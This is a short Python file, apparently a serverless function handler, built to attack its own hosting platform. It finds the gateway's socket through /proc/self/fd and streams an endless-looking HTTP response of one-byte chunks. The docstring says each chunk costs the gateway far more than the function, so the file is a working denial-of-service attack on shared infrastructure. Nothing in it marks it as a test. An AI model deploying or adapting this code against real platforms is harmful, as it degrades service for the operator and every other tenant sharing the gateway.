"""Answers in chunks of one byte, as many as fit: each costs the gateway far more than it costs the function."""

import os
import socket


def handle(event, context):
    for name in os.listdir("/proc/self/fd"):
        try:
            sock = socket.socket(fileno=os.dup(int(name)))
            if not str(sock.getpeername()).endswith("calls.sock"):
                continue
        except OSError:
            continue
        sock.sendall(b"HTTP/1.1 200 OK\r\ntransfer-encoding: chunked\r\n\r\n")
        for _ in range(event):
            sock.sendall(b"1\r\nx\r\n" * 10_000)
        sock.sendall(b"0\r\n\r\n")
        sock.shutdown(socket.SHUT_RDWR)
